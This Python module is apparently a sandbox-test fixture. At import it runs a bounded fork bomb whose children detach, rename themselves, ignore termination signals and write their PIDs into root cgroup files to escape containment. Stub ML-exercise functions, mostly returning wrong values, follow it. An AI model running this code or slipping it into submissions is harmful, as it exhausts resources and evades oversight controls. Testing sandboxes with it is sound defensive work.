"""Attack: a fork bomb at import whose children detach, rename themselves and try to leave their cgroup.

Bounded by the attack itself (at most 2 x 600 processes, each ending after 10
minutes) so that a broken sandbox cannot take the machine down. affine is right.
"""

import ctypes
import os
import signal
import time

import torch


def _child() -> None:
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"atk-forkbomb", 0, 0, 0)  # PR_SET_NAME: the test looks for it
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    for procs in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                  "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(procs, "w") as escape:  # back into the root cgroup, out of kill_all's reach
                escape.write(str(os.getpid()))
        except OSError:
            pass
    try:
        os.fork()  # and the child forks too
    except OSError:
        pass
    time.sleep(600)


def _bomb() -> int:
    forked = failures = 0
    for _ in range(600):  # ATTACK
        try:
            pid = os.fork()
        except OSError:
            failures += 1
            if failures > 20:
                break
            continue
        if pid == 0:
            try:
                _child()
            finally:
                os._exit(0)
        forked += 1
    return forked


FORKED = _bomb()  # about 250 under the sandbox's limit of 256 processes


def linear_combination(xs, weights):
    return torch.zeros(())


def affine(x, W, b):
    return x @ W.T + b


def derivative(f, x0):
    return 0.0


def select_device(prefer="auto"):
    return torch.device("meta")


def make_loader(x, y, batch_size, shuffle=False, seed=None):
    return None


def train_step(model, loss_fn, optimizer, xb, yb):
    return 0.0
